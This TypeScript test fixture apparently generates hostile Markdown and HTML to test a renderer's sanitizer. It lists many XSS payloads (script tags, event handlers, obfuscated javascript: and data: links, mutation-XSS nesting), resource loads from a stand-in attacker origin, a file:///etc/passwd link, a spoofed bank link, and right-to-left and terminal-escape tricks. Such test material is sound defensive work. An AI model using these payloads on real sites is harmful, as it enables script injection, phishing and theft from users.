/** What texts may hold to run, load or disguise something. `evil`: origin that must never be asked. Each script would call `attack()`. */
export function hostileText(evil: string): string {
  return `# Report <img src=x onerror="attack('heading')">

${htmlTricks(evil)}

${linkTricks(evil)}

${hiddenCharacters}

| <script>attack('table')</script> | [cell](javascript:attack('cell')) |
|---|---|
| <img src="${evil}/cell.png"> | ![x](${evil}/cell-markdown.png) |

\`\`\`"><script>attack('fence')</script>
</code></pre><script>attack('code')</script>
\`\`\`

<!-- --><script>attack('comment')</script>

~~<b onmouseover="attack('del')">x</b>~~ \`</code><script>attack('span')</script>\` **<i onclick="attack('strong')">x</i>**
`;
}

function htmlTricks(evil: string): string {
  return [
    `<script>attack('script')</script>`,
    `<script src="${evil}/script.js"></script>`,
    `<img src=x onerror="attack('img')"><img src="${evil}/img.png" srcset="${evil}/img2.png 2x">`,
    `<svg onload="attack('svg')"><script>attack('svg script')</script><image href="${evil}/svg.png"/></svg>`,
    `<body onload="attack('body')"><details open ontoggle="attack('toggle')">x</details>`,
    `<style>@import url(${evil}/style.css); body { display: none; background: url(${evil}/background.png) }</style>`,
    `<link rel="stylesheet" href="${evil}/link.css"><link rel="preload" as="image" href="${evil}/preload.png">`,
    `<iframe src="${evil}/frame.html" srcdoc="<script>parent.attack('srcdoc')</script>"></iframe>`,
    `<object data="${evil}/object.swf"></object><embed src="${evil}/embed.swf"><video src="${evil}/video.mp4" autoplay></video>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/">`,
    `<form action="${evil}/form"><input name=q autofocus onfocus="attack('focus')"><button formaction="javascript:attack('form')">go</button></form>`,
    `<div style="position:fixed;inset:0;background:url(${evil}/inline.png)">cover</div>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="attack('mxss')">`,
    `<template><script>attack('template')</script></template><marquee onstart="attack('marquee')">x</marquee>`,
  ].join('\n\n');
}

/** Addresses that a link could carry. */
function linkTricks(evil: string): string {
  return [
    `[plain](javascript:attack('link'))`,
    `[mixed](JaVaScRiPt:attack('mixed')) [tab](java&#9;script:attack('tab')) [newline](<java\nscript:attack('newline')>)`,
    `[entity](&#106;avascript:attack('entity')) [space]( javascript:attack('space')) [control](\u0001javascript:attack('control'))`,
    `[data](data:text/html,<script>attack('data')</script>) [vb](vbscript:attack('vb')) [file](file:///etc/passwd) [blob](blob:${evil}/x)`,
    `[relative](/api/runs) [protocol](//${evil.slice(7)}/protocol) [export](/api/runs/x/export) [action](?tab=facts)`,
    `[quote](https://example.com/" onmouseover="attack('quote')) [title](https://example.com "\\" onclick=attack('title')")`,
    `![picture](${evil}/markdown.png) ![alt" onerror="attack('alt')](${evil}/alt.png) ![js](javascript:attack('image'))`,
    `[![nested](${evil}/nested.png)](javascript:attack('nested'))`,
    `<javascript:attack('auto')> <${evil}/auto> www.example.com`,
    `[reference][r] ![reference][p]\n\n[r]: javascript:attack('reference')\n[p]: ${evil}/reference.png`,
    `[https://bank.example](https://elsewhere.example/login)`,
  ].join('\n\n');
}

/** A right-to-left override, isolates, a null, an escape sequence of terminals, zero widths, half a surrogate pair. */
const hiddenCharacters =
  'safe\u202Egnp.exe\u202C \u2066x\u2069 \u001B[2J\u001B]0;title\u0007 zero\u200Bwidth\uFEFF \uD800 end';

/** A short one for names, notes and inputs. */
export function hostileName(evil: string): string {
  return `"><img src=x onerror=attack('name')><script>attack('name')</script><img src=${evil}/name.png>\u202Eevil`;
}

/** For a task, whose name has no white space. */
export const hostileTask = `"><script>attack('task')<script>\u202Eevil`;
